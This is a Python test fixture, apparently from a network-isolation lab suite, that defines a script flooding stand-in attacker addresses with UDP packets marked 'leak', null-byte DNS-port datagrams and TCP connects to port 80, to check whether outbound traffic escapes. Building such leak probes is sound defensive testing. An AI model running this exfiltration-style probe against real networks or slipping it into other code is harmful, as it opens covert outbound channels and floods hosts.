"""A script that sends to an attacker as often as it can, by every way there is.

Its arguments are for how many seconds, for how many it pauses after each round, and the
addresses to send to (`X` without any). It says `up` first.
"""

from __future__ import annotations

from typing import Final

from tests.lab.addresses import v4, v6

STORM: Final = f"""
import socket, sys, time
def send(end):
    while time.monotonic() < end:
        for address in targets:
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            udp = socket.socket(family, socket.SOCK_DGRAM)
            tcp = socket.socket(family, socket.SOCK_STREAM)
            tcp.setblocking(False)
            for step in (lambda: udp.sendto(b"leak", (address, 9999)),
                         lambda: udp.sendto(b"\\0" * 12, (address, 53)),
                         lambda: tcp.connect((address, 80))):
                try: step()
                except OSError: pass
            udp.close(); tcp.close()
        time.sleep(pause)
pause = float((*sys.argv, 0, 0)[2])
targets = sys.argv[3:] or ["{v4(66)}", "{v6(66)}"]
print("up", flush=True)
send(time.monotonic() + float(sys.argv[1]))
"""
